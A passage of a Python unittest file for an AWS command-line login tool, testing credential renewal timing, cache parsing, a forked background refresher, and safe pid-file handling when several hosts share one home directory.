# Renewal: one schedule for the refresher, the credential server and credential_process
# ---------------------------------------------------------------------------

class RenewalScheduleTest(unittest.TestCase):
    """The schedule and the freshness rule, at their bounds."""

    def test_fresh_means_15_minutes_or_more(self):
        self.assertTrue(aws_login._fresh(1000 + 900, 1000))
        self.assertFalse(aws_login._fresh(1000 + 899.5, 1000))

    def test_a_failure_at_expiry_ends_it_unless_persistent(self):
        error = aws_login.NetworkError("down")
        schedule = aws_login._RenewalSchedule(0, 3600)
        self.assertFalse(schedule.failed(error, 3600))
        self.assertTrue(schedule.failed(error, 3595))
        self.assertEqual(schedule.next_at, 3600)            # never later than expiry
        self.assertFalse(schedule.failed(aws_login.ConfigError("no"), 10))   # will not pass
        persistent = aws_login._RenewalSchedule(0, 3600, persistent=True)
        self.assertTrue(persistent.failed(error, 3600))
        self.assertEqual(persistent.next_at, 3610)        # expired: backs off all the same
        persistent.failures = 0
        self.assertTrue(persistent.failed(error, 4000))
        self.assertEqual(persistent.next_at, 4010)
        self.assertEqual([persistent.failed(error, 4000) and persistent.next_at - 4000
                          for _ in range(7)], [20, 40, 80, 160, 300, 300, 300])

    def test_a_renewal_nobody_started_has_90_seconds(self):
        self.assertAlmostEqual(aws_login._RenewalSchedule.deadline() - time.monotonic(), 90,
                               delta=1)

    def test_renewals_are_apart_and_sleeps_are_sliced(self):
        schedule = aws_login._RenewalSchedule(0, 3)         # renewal due at 1.5: not before 2
        self.assertEqual(schedule.next_at, 2)
        self.assertFalse(schedule.due(1.9))
        self.assertTrue(schedule.due(2))
        schedule.renewed(100, 3700)
        self.assertEqual((schedule.sleep(100), schedule.sleep(2490), schedule.sleep(3000)),
                         (30, 10, 0))


class CacheReaderTest(HomeTestCase):
    """_cache_entry, which the configured command also runs, reads only what we write."""

    def entry(self, data):
        path = os.path.join(self.home, "cache")
        self.write(path, data)
        return aws_login._cache_entry(path, os)

    def test_reads_our_cache_and_nothing_else(self):
        good = "%s\nexpires 99\nrole %s\n{}\n" % (aws_login._CACHE_HEADER, ADMIN)
        self.assertEqual(self.entry(good), (99, ADMIN, "{}"))
        for bad in (good[:good.rindex("{")], good[:good.rindex("\n{")],
                    good.replace("{}", "[]"), good.replace("expires", "expire"),
                    good.replace("role ", "rolf "), b"\xff" + good.encode()):
            self.assertIsNone(self.entry(bad), repr(bad))

    def test_reads_at_most_64_kib_and_closes_what_it_opens(self):
        head = "%s\nexpires 99\nrole %s\n{" % (aws_login._CACHE_HEADER, ADMIN)
        fill = lambda size: head + "x" * (size - len(head) - 2) + "}\n"
        self.assertIsNotNone(self.entry(fill(65535)))
        self.assertIsNone(self.entry(fill(65536)))
        before = len(os.listdir("/proc/self/fd"))
        for _ in range(20):
            self.entry(fill(100))
            self.assertIsNone(aws_login._cache_entry(os.path.join(self.home, "none"), os))
        self.assertEqual(len(os.listdir("/proc/self/fd")), before)


class FastPathTest(HomeTestCase):
    """main() answers `credential-process` from a fresh cache before it loads
    argparse, in each of the argument orders the AWS CLI may be given; any
    other command line takes the full path."""

    CODE = ("import sys; sys.path.insert(0, %r); import aws_login; code = aws_login.main(); "
            "sys.stderr.write('argparse %%s\\n' %% ('argparse' in sys.modules)); sys.exit(code)"
            % HERE)

    def test_each_argument_order(self):
        store = aws_login._ProcessStore("p")
        self.write(store.path, "%s\nexpires %d\nrole %s\n%s\n" % (
            aws_login._CACHE_HEADER, time.time() + 3600, ADMIN,
            aws_login._credential_process_json(_fake_credentials(3))))
        self.write(self.config_file, "[p]\necp_endpoint_url = https://idp.test/\n")
        for words, fast in ((["--profile", "p", "credential-process"], True),
                            (["credential-process", "--profile", "p"], True),
                            (["--debug", "--profile", "p", "credential-process"], False),
                            (["credential-process", "--profile", "p", "--debug"], False),
                            (["--profile", "p", "credential-process", "x"], False)):
            done = subprocess.run([sys.executable, "-c", self.CODE] + words,
                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                  stdin=subprocess.DEVNULL, timeout=30)
            said = done.stderr.decode()
            self.assertIn("argparse %s" % (not fast), said, (words, said))
            if fast:
                self.assertEqual(json.loads(done.stdout)["AccessKeyId"], "ASIA%016d" % 3)
        os.environ["AWS_PROFILE"] = "p"
        done = subprocess.run([sys.executable, "-c", self.CODE, "credential-process"],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=30)
        self.assertIn("argparse False", done.stderr.decode())


class RenewalRuleTest(LoginTestCase):
    """The one renewal rule, seen from every path that follows it: a renewal is
    due 20 minutes before expiry, and credentials are handed out only while 15
    minutes or more are left."""

    def cache(self, seconds_left):
        """A credential_process cache of profile default that has ``seconds_left``."""
        store = aws_login._ProcessStore("default")
        self.write(store.path, "%s\nexpires %d\nrole %s\n%s\n" % (
            aws_login._CACHE_HEADER, time.time() + seconds_left, ADMIN,
            aws_login._credential_process_json(_fake_credentials(7))))
        return "ASIA%016d" % 7

    def test_credential_process_on_every_route_serves_only_what_is_fresh(self):
        self.configure(username="alice", factor="auto")    # no password: nothing can renew
        self.assertEqual(self.tool(["configure", "--credential-process"], terminal=False).code, 0)
        import configparser
        import shlex
        parser = configparser.RawConfigParser()
        parser.read_string(self.read(os.environ["AWS_CONFIG_FILE"]))
        configured = shlex.split(parser.get("default", "credential_process"))
        routes = {"the configured command": configured,
                  "credential-process": [sys.executable, SCRIPT, "credential-process"],
                  "the locked path (--debug)": [sys.executable, SCRIPT, "--debug",
                                                "credential-process"]}
        for route, words in sorted(routes.items()):
            key = self.cache(15 * 60 + 30)
            run = run_tool(words[1:], env=dict(os.environ), terminal=False,
                           argv_prefix=words[:1])
            self.assertEqual((run.code, json.loads(run.stdout or "{}").get("AccessKeyId")),
                             (0, key), (route, run))
            self.cache(15 * 60 - 30)
            run = run_tool(words[1:], env=dict(os.environ), terminal=False,
                           argv_prefix=words[:1])
            self.assertEqual((run.code, run.stdout), (11, ""), (route, run))
        self.assertEqual([r for r in self.idp.requests if r["authorization"]], [])

    def test_env_hands_out_stored_credentials_only_while_fresh(self):
        self.configure(username="alice", factor="auto")
        for left, code in ((15 * 60 + 30, 0), (15 * 60 - 30, 11)):
            aws_login._FileStore("default").write(aws_login.Credentials(
                "ASIAOLD", "s", "t", aws_login._utc(time.time() + left)), ADMIN)
            run = self.tool(["env"], terminal=False)
            self.assertEqual(run.code, code, (left, run))
            self.assertEqual("ASIAOLD" in run.stdout, code == 0, run)

    def test_the_refresher_process_renews_20_minutes_before_expiry(self):
        self.configure(username="alice", factor="auto", password=PASSWORD, refresh="true")
        run = self.tool(["login"], terminal=False)
        self.assertEqual(run.code, 0, run)
        expires = aws_login._parse_timestamp(self.credentials()["aws_login_expiration"])
        row = json.loads(self.tool(["status", "--output", "json"], terminal=False).stdout)[0]
        self.assertTrue(row["refresher_alive"], row)
        self.assertEqual(aws_login._parse_timestamp(row["next_renewal"]).timestamp(),
                         expires.timestamp() - 20 * 60)
        self.assertTrue(_wait_for(lambda: b"_refresher_loop(" in _cmdline(row["refresher_pid"]),
                                  10))
        time.sleep(0.5)     # the loop writes its own record when it starts
        row = json.loads(self.tool(["status", "--output", "json"], terminal=False).stdout)[0]
        self.assertEqual(aws_login._parse_timestamp(row["next_renewal"]).timestamp(),
                         expires.timestamp() - 20 * 60)

    def test_the_credential_server_renews_20_minutes_before_expiry_and_takes_only_fresh(self):
        self.configure(username="alice", factor="auto", password=PASSWORD)
        now = [time.time()]
        source = aws_login._ServedCredentials("default", clock=lambda: now[0])
        source.renew()
        self.assertEqual(source.next_at, source.credentials.expires_at.timestamp() - 20 * 60)
        for left, taken in ((15 * 60 + 30, True), (15 * 60 - 30, False)):
            source = aws_login._ServedCredentials("default", clock=lambda: now[0])
            aws_login._FileStore("default").write(aws_login.Credentials(
                "ASIASTORED", "s", "t", aws_login._utc(now[0] + left)), ADMIN)
            source.renew()
            self.assertEqual(source.credentials.access_key_id == "ASIASTORED", taken, left)


# ---------------------------------------------------------------------------
# Refresher: a forked loop that renews before expiry
# ---------------------------------------------------------------------------

class RenewalTimeTest(unittest.TestCase):
    def test_sdks_never_see_under_15_minutes_and_short_sessions_renew_at_half(self):
        r = aws_login._RenewalSchedule.renewal_time
        self.assertEqual(r(0, 3600), 3600 - 20 * 60)
        self.assertEqual(r(0, 43200), 43200 - 20 * 60)
        self.assertEqual(r(0, 900), 450)
        self.assertEqual(r(0, 8), 4)
        self.assertEqual(r(0, 2400), 1200)     # the two rules meet at 40 minutes
        for lifetime in range(1800, 43201, 60):
            self.assertGreaterEqual(lifetime - r(0, lifetime), 15 * 60, lifetime)
            self.assertGreater(r(0, lifetime), 0)


class RefresherJobTest(unittest.TestCase):
    """A refresher's inputs cross an exec as JSON: each is checked on arrival."""

    def test_what_login_gives_comes_back_the_same(self):
        job = aws_login._RefresherJob(ADMIN, 1.5, 3601, "/x/aws_login.py", None, "eu-west-1", 7,
                                      "123", None)
        again = aws_login._RefresherJob.from_json(job.to_json())
        self.assertEqual(vars(again), vars(job))

    def test_anything_else_is_refused(self):
        good = json.loads(aws_login._RefresherJob(ADMIN, 1, 2, lock_fd=3).to_json())
        for change in ({"issued_at": float("nan")}, {"expires_at": float("inf")},
                       {"issued_at": "soon"}, {"role_arn": "Admin"}, {"program": 3},
                       {"program": "aws\x1b[2J"}, {"start_time": "1\n2"}, {"lock_fd": -1},
                       {"lock_fd": True}, {"code_fd": "3"}, {"region": "Mars"},
                       {"ca_bundle": "/nowhere.pem"}, {"extra": 1}):
            with self.assertRaises(aws_login.ConfigError, msg=change):
                aws_login._RefresherJob.from_json(json.dumps(dict(good, **change)))
        for text in ("not json", "[]", "null"):
            self.assertRaises(aws_login.ConfigError, aws_login._RefresherJob.from_json, text)
        for fd in ("3", -1, 2.0):
            self.assertRaises(aws_login.ConfigError, aws_login._RefresherJob, ADMIN, 1, 2,
                              lock_fd=fd)
        self.assertEqual(aws_login._RefresherJob(ADMIN, 1, 2, lock_fd=0).lock_fd, 0)


class RefresherStepTest(LoginTestCase):
    """One Refresher in this process, its wall clock in the test's hands."""
    SLOW = True         # waits on real time: the runner starts it first

    def setUp(self):
        LoginTestCase.setUp(self)
        self.configure(username="alice", factor="push")
        run = self.tool(["login"], [("Password: ", PASSWORD)])
        self.assert_logged_in(run)
        self.expires = aws_login._parse_timestamp(self.credentials()["aws_login_expiration"])
        self.now = [time.time()]
        self.lines = []
        self.refresher = aws_login._Refresher(
            "default", aws_login._RefresherJob(ADMIN, self.now[0], self.expires.timestamp()),
            clock=lambda: self.now[0], log=self.lines.append)

    def test_sleeps_in_slices_then_renews_before_expiry(self):
        delay = self.refresher.step()
        self.assertEqual(delay, aws_login._RenewalSchedule.SLICE)
        self.assertEqual(len(self.sts.requests), 1)
        self.now[0] = self.expires.timestamp() - 20 * 60 - 1
        self.assertEqual(self.refresher.step(), 1)
        self.now[0] += 1
        old_key = self.credentials()["aws_access_key_id"]
        self.assertIsNotNone(self.refresher.step())
        self.assertEqual(len(self.sts.requests), 2)
        self.assertEqual(self.idp.logins[-1], ("alice", "session"))
        self.assertEqual(self.credentials()["aws_access_key_id"],
                         self.sts.issued[-1]["AccessKeyId"])
        self.assertNotEqual(self.credentials()["aws_access_key_id"], old_key)
        self.assertRegex(self.lines[-1], r"^renewed; the credentials expire at \S+Z; next "
                                         r"renewal at \S+Z$")

    def test_a_wall_clock_jump_renews_at_once(self):
        self.assertEqual(self.refresher.step(), aws_login._RenewalSchedule.SLICE)
        self.now[0] += 5 * 3600             # the laptop slept through the renewal time
        self.refresher.step()
        self.assertEqual(len(self.sts.requests), 2)

    def test_transient_idp_outage_is_retried_with_backoff(self):
        self.now[0] = self.refresher.schedule.next_at
        self.idp.override = (503, {"Content-Type": "text/html"}, b"<html>down</html>")
        first = self.refresher.step()
        self.assertIn("trying again in 10s", self.lines[-1])
        self.assertEqual((first, len(self.sts.requests)), (10, 1))
        self.now[0] += 10
        self.assertEqual(self.refresher.step(), 20)
        self.idp.override = None
        self.now[0] += 20
        self.refresher.step()
        self.assertEqual(len(self.sts.requests), 2)
        self.assertTrue(self.lines[-1].startswith("renewed"))
        self.assertEqual(self.refresher.schedule.failures, 0)

    def test_gives_up_at_expiry(self):
        self.idp.override = (503, {}, b"")
        self.now[0] = self.expires.timestamp() + 1
        self.assertIsNone(self.refresher.step())
        self.assertIn("expired", self.lines[-1])

    def test_sts_throttling_is_transient(self):
        self.now[0] = self.refresher.schedule.next_at
        self.sts.queue.extend([sts_error("Throttling", "Rate exceeded")] * 4)
        self.assertIsNotNone(self.refresher.step())
        self.assertIn("Throttling", self.lines[-1])

    def test_stops_when_logged_out_or_replaced(self):
        aws_login._FileStore("default").write(_fake_credentials(), DEV)
        self.assertIsNone(self.refresher.step())
        self.assertIn("another login replaced the credentials (role %s)" % DEV, self.lines[-1])
        aws_login._FileStore("default").remove()
        self.assertIsNone(self.refresher.step())
        self.assertIn("logged out", self.lines[-1])

    def test_a_logout_during_renewal_wins(self):
        self.now[0] = self.refresher.schedule.next_at
        self.idp.override = lambda handler: aws_login._FileStore("default").remove() and None
        self.assertIsNone(self.refresher.step())
        self.assertIsNone(self.credentials())

    def test_needs_a_person_logs_why_and_stops(self):
        self.idp.expire_sessions()
        self.now[0] = self.refresher.schedule.next_at
        self.assertIsNone(self.refresher.step())
        self.assertIn("no password is stored", self.lines[-1])
        self.assertEqual(len(self.sts.requests), 1)

    def test_keyring_password_with_the_configured_factor(self):
        in_process_keyring(self, {("awscli_login", "alice@" + self.idp.host_port): PASSWORD})
        self.configure(username="alice", factor="push", enable_keyring="true")
        self.idp.expire_sessions()
        self.now[0] = self.refresher.schedule.next_at
        self.assertIsNotNone(self.refresher.step())
        self.assertEqual(self.idp.logins[-1], ("alice", "password"))
        self.assertEqual(self.idp.requests[-1]["headers"]["X-Shibboleth-Duo-Factor"], "push")
        self.assertEqual(len(self.sts.requests), 2)


class RefresherProcessTest(LoginTestCase):
    """The real forked refresher, with credentials that live 8 seconds."""
    SLOW = True         # waits on real time: the runner starts it first

    def setUp(self):
        LoginTestCase.setUp(self)
        self.sts.clock = lambda: time.time() - 3600 + 8
        self.configure(username="alice", factor="auto", password=PASSWORD, refresh="true")
        self.log = os.path.join(self.home, ".aws-login", "log", "default.log")

    def refresher_pid(self, run):
        match = re.search(r"A refresher \(pid (\d+)\) renews them", run.stderr)
        self.assertTrue(match, run)
        return int(match.group(1))

    @readme_route
    def test_renews_before_expiry_and_logout_stops_it(self):
        started = time.time()
        run = self.tool(["login"], terminal=False,
                        env={"AWS_SECRET_ACCESS_KEY": "caller-secret-in-env"})
        self.assertLess(time.time() - started, 5)       # returned at once, pipes released
        self.assert_logged_in(run)
        pid = self.refresher_pid(run)
        first = self.credentials()["aws_access_key_id"]
        self.assertTrue(_wait_for(lambda: self.credentials()["aws_access_key_id"] != first, 10),
                        self.read(self.log))
        self.assertEqual(self.credentials()["aws_access_key_id"],
                         self.sts.issued[-1]["AccessKeyId"])
        self.assertEqual(self.idp.logins[-1], ("alice", "session"))
        self.assertEqual(os.stat(self.log).st_mode & 0o777, 0o600)
        renewed = r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ default\[%d\] renewed" % pid
        # the child writes the file, then the loop logs: the line follows shortly
        self.assertTrue(_wait_for(lambda: re.search(renewed, self.read(self.log)), 5),
                        self.read(self.log))
        with open("/proc/%d/cmdline" % pid, "rb") as f:
            cmdline = f.read()
        with open("/proc/%d/environ" % pid, "rb") as f:
            environ = f.read()
        with open("/proc/%d/stat" % pid) as f:
            self.assertNotEqual(f.read().split()[5], "0")      # a session of its own
        self.assertEqual(os.readlink("/proc/%d/cwd" % pid), "/")
        self.assertIn(b"_refresher_loop", cmdline)      # a fresh, small interpreter
        for secret in [PASSWORD, "caller-secret-in-env"] + [
                c["SecretAccessKey"] for c in self.sts.issued] + [
                c["SessionToken"] for c in self.sts.issued]:
            self.assertNotIn(secret.encode(), cmdline + environ + self.read(self.log).encode())
        run = self.tool(["logout"], terminal=False)
        self.assertEqual(run.code, 0, run)
        self.assertIn(_process_state(pid), (None, "Z"))
        self.assertIsNone(self.credentials())
        self.assertFalse(os.path.exists(os.path.join(self.home, ".aws-login", "run",
                                                     "default.pid")))

    def test_one_refresher_per_profile(self):
        self.sts.clock = time.time
        pid = self.refresher_pid(self.tool(["login"], terminal=False))
        run = self.tool(["login"], terminal=False)
        self.assertEqual(run.code, 0)
        self.assertIn("Already logged in to profile default", run.stderr)
        self.assertIn("(pid %d)" % pid, run.stderr)
        self.assertEqual(len(self.sts.requests), 1)
        second = self.refresher_pid(self.tool(["login", "--force"], terminal=False))
        self.assertNotEqual(pid, second)
        self.assertIn(_process_state(pid), (None, "Z"))
        self.assertNotIn(_process_state(second), (None, "Z"))
        self.assertEqual(aws_login._refresher_state("default").pid, second)

    def test_exits_when_another_login_takes_another_role(self):
        self.idp.users["alice"]["roles"].append(DEV + "," + PROVIDER_A)
        self.configure(username="alice", factor="auto", password=PASSWORD, refresh="true",
                       role_arn=ADMIN)
        pid = self.refresher_pid(self.tool(["login"], terminal=False))
        aws_login._FileStore("default").write(_fake_credentials(), DEV)
        self.assertTrue(_wait_for(lambda: _process_state(pid) in (None, "Z"), 10))
        self.assertIn("another login replaced the credentials", self.read(self.log))

    def test_piped_bootstrap_returns_at_once(self):
        with open(SCRIPT, "rb") as f:
            source = f.read()
        started = time.time()
        run = self.tool(["login"], stdin=source, argv_prefix=[sys.executable, "-"],
                        terminal=False)
        self.assertLess(time.time() - started, 5)
        self.refresher_pid(run)


class RefresherLifetimeTest(LoginTestCase):
    """The refresher backs off from credentials it cannot use, and never spins."""
    SLOW = True         # waits on real time: the runner starts it first

    setUp = RefresherStepTest.setUp     # logged in; a Refresher on the test's clock

    def run_for(self, seconds, steps=20):
        """Step the refresher through ``seconds`` of its clock (at most ``steps`` wake-ups)."""
        end = self.now[0] + seconds
        for _ in range(steps):
            delay = self.refresher.step()
            if delay is None or self.now[0] + delay >= end:
                return
            self.now[0] += delay

    def test_an_expired_answer_is_a_failure_with_backoff(self):
        first_key = self.credentials()["aws_access_key_id"]
        self.sts.clock = lambda: time.time() - 7200
        self.now[0] = self.refresher.schedule.next_at
        self.run_for(10)
        self.assertEqual(len(self.sts.requests), 2)         # the login's and one renewal
        self.assertRegex(self.lines[-1], r"^renewal failed \(STS sent credentials that expire "
                                         r"at \S+Z, which is not in the future.*\); trying "
                                         r"again in 10s$")
        self.assertEqual(self.credentials()["aws_access_key_id"], first_key)
        self.sts.clock = time.time
        self.run_for(30)
        self.assertTrue(self.lines[-1].startswith("renewed"), self.lines)
        self.assertEqual(self.refresher.schedule.failures, 0)

    def test_renewals_keep_a_minimum_interval_whatever_renew_says(self):
        now = self.now[0] = self.refresher.schedule.next_at
        self.refresher.renew = lambda: now - 100        # as if nothing checked the answer
        self.assertGreaterEqual(self.refresher.step(), aws_login._RenewalSchedule.MIN_INTERVAL)
        self.assertEqual(self.refresher.schedule.next_at, now + aws_login._RenewalSchedule.MIN_INTERVAL)

        def fails():
            raise aws_login.AwsLoginError("down", transient=True)
        self.refresher.renew = fails
        self.now[0] = self.refresher.schedule.next_at
        self.refresher.schedule.expires_at = self.now[0] + 0.5       # the old ones nearly expired
        self.assertGreaterEqual(self.refresher.step(), aws_login._RenewalSchedule.MIN_INTERVAL)

    def test_the_forked_refresher_makes_few_calls_against_such_an_sts(self):
        self.sts.clock = lambda: time.time() - 7200
        log = os.path.join(self.home, ".aws-login", "log", "default.log")
        now = time.time()
        code = ("import sys; sys.path.insert(0, %r); import aws_login; "
                "aws_login._start_refresher(aws_login.read_profile('default'), %r, %r, %r)"
                % (HERE, ADMIN, now - 100, now + 50))
        subprocess.check_call([sys.executable, "-c", code], env=dict(os.environ))
        self.assertTrue(_wait_for(lambda: len(self.sts.requests) > 3 or (
            os.path.exists(log) and "renewal failed" in self.read(log)), 30))
        time.sleep(3)           # a spinning refresher renews every few hundred ms
        self.assertLessEqual(len(self.sts.requests), 3, self.read(log))     # login + 1, or 2
        self.assertIn("which is not in the future", self.read(log))
        self.assertEqual(self.tool(["logout"], terminal=False).code, 0)


# Stands in for a refresher: its command line runs "_refresher_loop(" for the
# profile in argv[1]; it notes each SIGTERM and SIGWINCH in the file argv[2]
# and keeps running.
FAKE_REFRESHER = ("import signal, sys, time\n"
                  "def note(signum, frame):\n"
                  "    with open(sys.argv[2], 'a') as f:\n"
                  "        f.write('%d\\n' % signum)\n"
                  "signal.signal(signal.SIGTERM, note)\n"
                  "signal.signal(signal.SIGWINCH, note)\n"
                  "open(sys.argv[2], 'a').close()\n"
                  "while True:\n"
                  "    time.sleep(1)  # stands in for m._refresher_loop(")


class SharedHomeTest(LoginTestCase):
    """A home that several hosts share (NFS): logout signals only a refresher
    that provably runs here, and names the host where another one runs."""

    OTHER_HOST = "login2.cluster.example.edu"

    def setUp(self):
        LoginTestCase.setUp(self)
        self.configure(username="alice", factor="auto", password=PASSWORD)
        self.assert_logged_in(self.tool(["login"], terminal=False))
        self.run_dir = os.path.join(self.home, ".aws-login", "run")
        self.locked = set()

    def process(self, argv):
        proc = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                stderr=subprocess.DEVNULL)
        self.addCleanup(self._end, proc)
        return proc

    @staticmethod
    def _end(proc):
        if proc.poll() is None:
            proc.kill()
        proc.wait()

    def fake_refresher(self, profile="default"):
        marker = tempfile.mktemp(prefix="signals-", dir=self.home)
        proc = self.process([sys.executable, "-c", FAKE_REFRESHER, profile, marker])
        self.assertTrue(_wait_for(lambda: os.path.exists(marker), 20))
        proc.marker = marker
        return proc

    def signals(self, fake):
        """The signals ``fake`` got so far but SIGWINCH.  A SIGWINCH sent now is
        noted after any signal sent before it (the lowest number comes first)."""
        winch = "%d" % signal.SIGWINCH
        seen = lambda: self.read(fake.marker).split()
        before = seen().count(winch)
        os.kill(fake.pid, signal.SIGWINCH)
        self.assertTrue(_wait_for(lambda: seen().count(winch) > before, 20))
        return [int(s) for s in seen() if s != winch]

    def hold_pid_file(self, text, profile="default"):
        """The profile's pid file holding ``text``, locked as a live refresher's is."""
        os.makedirs(self.run_dir, 0o700, exist_ok=True)
        path = os.path.join(self.run_dir, profile + ".pid")
        self.write(path, text)
        if path not in self.locked:
            fd = os.open(path, os.O_RDONLY)
            fcntl.flock(fd, fcntl.LOCK_EX)
            self.addCleanup(os.close, fd)
            self.locked.add(path)

    def record(self, pid, host=None, boot_id=None, start_time=None):
        return "%d 1900000000\nhost %s\nboot_id %s\nstart_time %s\nrole %s\n" % (
            pid, host or os.uname().nodename, boot_id or _boot_id(),
            start_time or _start_ticks(pid), ADMIN)

    def logout(self):
        run = self.tool(["logout"], terminal=False)
        self.assertEqual(run.code, 0, run)
        self.assertIn("Logged out of profile default.\n", run.stderr)
        self.assertIsNone(self.credentials())
        return run

    def stop(self, wait=0.5):
        """stop_refresher in this process: (its answer, what it said on stderr)."""
        err = io.StringIO()
        saved, sys.stderr = sys.stderr, err
        try:
            return aws_login._stop_refresher("default", wait), err.getvalue()
        finally:
            sys.stderr = saved

    def test_a_refresher_on_another_host_is_named_and_never_signalled(self):
        sleeper = self.process(["sleep", "120"])
        self.hold_pid_file(self.record(sleeper.pid, host=self.OTHER_HOST))
        warning = ("aws_login: warning: profile default's refresher (pid %d) runs on host %s, "
                   "not here: it was not signalled; it stops by itself within 30 s of finding "
                   "its credentials removed or replaced by another role"
                   % (sleeper.pid, self.OTHER_HOST))
        run = self.logout()
        self.assertIsNone(sleeper.poll())
        self.assertEqual([line for line in run.stderr.splitlines()
                          if line.startswith("aws_login:")], [warning])
        row = json.loads(self.tool(["status", "--output", "json"], terminal=False).stdout)[0]
        self.assertEqual((row["refresher_pid"], row["refresher_alive"], row["refresher_host"],
                          row["refresher_local"]), (sleeper.pid, True, self.OTHER_HOST, False))
        self.assertRegex(self.tool(["status"], terminal=False).stdout,
                         r"\ndefault .* pid %d on %s "
                         % (sleeper.pid, re.escape(self.OTHER_HOST)))
        run = self.tool(["login"], terminal=False)     # refresh = false: it stops none
        self.assertEqual(run.code, 0, run)
        self.assertIn(warning + "\n", run.stderr)
        self.configure(username="alice", factor="auto", password=PASSWORD, refresh="true")
        run = self.tool(["login"], terminal=False)
        self.assertEqual(run.code, 0, run)
        self.assertIn("Already logged in to profile default as %s until " % ADMIN, run.stderr)
        self.assertIn("the refresher (pid %d on host %s) keeps" % (sleeper.pid, self.OTHER_HOST),
                      run.stderr)
        self.assertIsNone(sleeper.poll())

    def test_pid_zero_or_garbage_signals_nothing(self):
        self.hold_pid_file("0 0\n")                 # kill(0) would hit logout's own group
        self.logout()
        for data in (b"-1 0\n", b"0 0\n", b"", b"\n", b"x 1\n", b"12 x\n", b" \n12 1\n"):
            self.assertIsNone(aws_login._parse_pid_file(data, True), data)

    def test_the_pid_file_is_rewritten_in_place_and_read_strictly(self):
        path = os.path.join(self.home, "pid")
        fd = os.open(path, os.O_RDWR | os.O_CREAT, 0o600)
        self.addCleanup(os.close, fd)
        aws_login._record(fd, 1900000000.4, "host a\nrole %s\n" % ADMIN)
        self.assertEqual(self.read(path),
                         "%d 1900000000\nhost a\nrole %s\n" % (os.getpid(), ADMIN))
        aws_login._record(fd, None, "host b\n")
        self.assertEqual(self.read(path), "%d 0\nhost b\n" % os.getpid())
        state = aws_login._parse_pid_file(
            b"12 5\nhost h1\nstart_time 99\nhost h2\nboot_id \x1b[2J\nrole r\nnoise x\n", False)
        self.assertEqual((state.pid, state.next_at, state.alive, state.host, state.boot_id,
                          state.start_time, state.role_arn), (12, 5, False, "h1", "", "99", "r"))
        state = aws_login._parse_pid_file(b"12 5\nhost \x1b]0;x\x07\nstart_time 99\n", True)
        self.assertEqual((state.host, state.start_time, state.local), (None, None, None))

    def test_a_pid_file_of_an_earlier_version_is_harmless(self):
        sleeper = self.process(["sleep", "120"])
        self.hold_pid_file("%d 1900000000\n" % sleeper.pid)
        state = aws_login._refresher_state("default")
        self.assertEqual((state.pid, state.next_at, state.alive, state.host, state.boot_id,
                          state.start_time, state.role_arn, state.local),
                         (sleeper.pid, 1900000000, True, None, None, None, None, None))
        row = json.loads(self.tool(["status", "--output", "json"], terminal=False).stdout)[0]
        self.assertEqual((row["refresher_pid"], row["refresher_host"], row["refresher_local"]),
                         (sleeper.pid, None, None))
        run = self.logout()
        self.assertIn("refresher (pid %d) cannot be proved to run here" % sleeper.pid,
                      run.stderr)
        self.assertIsNone(sleeper.poll())

    def test_an_earlier_versions_file_naming_our_refresher_still_stops_it(self):
        fake = self.fake_refresher()
        self.hold_pid_file("%d 1900000000\n" % fake.pid)
        self.assertEqual(self.stop()[0], fake.pid)
        self.assertEqual(fake.wait(20), -signal.SIGKILL)    # it ignored SIGTERM
        self.assertEqual(self.read(fake.marker).split(), ["%d" % signal.SIGTERM])

    def test_only_a_process_started_when_the_file_says_and_running_our_refresher(self):
        fake, other = self.fake_refresher(), self.fake_refresher("other")
        sleeper = self.process(["sleep", "120"])
        for pid, kw, why in [
                (fake.pid, dict(host=self.OTHER_HOST), "runs on host %s, not here"
                 % self.OTHER_HOST),
                (fake.pid, dict(boot_id=str(uuid.uuid4())), "runs on another machine also "
                 "named %s" % os.uname().nodename),
                (fake.pid, dict(start_time=str(int(_start_ticks(fake.pid)) + 1)),
                 "cannot be proved to run here"),
                (other.pid, {}, "cannot be proved to run here"),
                (sleeper.pid, {}, "cannot be proved to run here")]:
            with self.subTest(why=why, pid=pid):
                self.hold_pid_file(self.record(pid, **kw))
                self.assertEqual(self.stop(), (None, "aws_login: warning: profile default's "
                                               "refresher (pid %d) %s: it was not signalled; "
                                               "it stops by itself within 30 s of finding its "
                                               "credentials removed or replaced by another "
                                               "role\n" % (pid, why)))
                self.assertEqual((self.signals(fake), self.signals(other), sleeper.poll()),
                                 ([], [], None))
        self.hold_pid_file(self.record(fake.pid))
        self.assertEqual(self.stop(), (fake.pid, ""))
        self.assertEqual(fake.wait(20), -signal.SIGKILL)
        self.assertEqual(self.read(fake.marker).split(), ["%d" % signal.SIGWINCH] * 5 +
                         ["%d" % signal.SIGTERM])

    def test_without_proc_ps_decides_and_nothing_is_killed(self):
        ps = lambda pid, column: subprocess.check_output(
            ["ps", "-o", column + "=", "-p", str(pid)]).decode().strip()
        fake = self.fake_refresher()
        self.addCleanup(setattr, aws_login, "_PROC", aws_login._PROC)
        aws_login._PROC = os.path.join(self.home, "no-proc")
        lstart = ps(fake.pid, "lstart")
        for text in ["%d 0\n" % fake.pid,                          # earlier version
                     "%d 0\nhost %s\nstart_time %s\n" % (fake.pid, self.OTHER_HOST, lstart),
                     "%d 0\nhost %s\nstart_time Thu Jan  1 00:00:00 2015\n"
                     % (fake.pid, os.uname().nodename)]:
            with self.subTest(text=text):
                self.hold_pid_file(text)
                self.assertIsNone(self.stop()[0])
                self.assertEqual(self.signals(fake), [])
        self.hold_pid_file("%d 0\nhost %s\nstart_time %s\n" % (fake.pid, os.uname().nodename,
                                                             lstart))
        self.assertEqual(self.stop(), (fake.pid, ""))
        self.assertEqual(self.signals(fake), [signal.SIGTERM])      # and no SIGKILL
        self.assertIsNone(fake.poll())

    def test_this_hosts_refresher_records_where_it_runs_and_logout_stops_it(self):
        self.configure(username="alice", factor="auto", password=PASSWORD, refresh="true")
        run = self.tool(["login", "--force"], terminal=False)
        pid = int(re.search(r"A refresher \(pid (\d+)\)", run.stderr).group(1))
        with open(os.path.join(self.run_dir, "default.pid")) as f:
            lines = f.read().splitlines()
        self.assertRegex(lines[0], r"^%d \d{10}$" % pid)
        self.assertEqual(lines[1:], ["host " + os.uname().nodename, "boot_id " + _boot_id(),
                                     "start_time " + _start_ticks(pid), "role " + ADMIN])
        row = json.loads(self.tool(["status", "--output", "json"], terminal=False).stdout)[0]
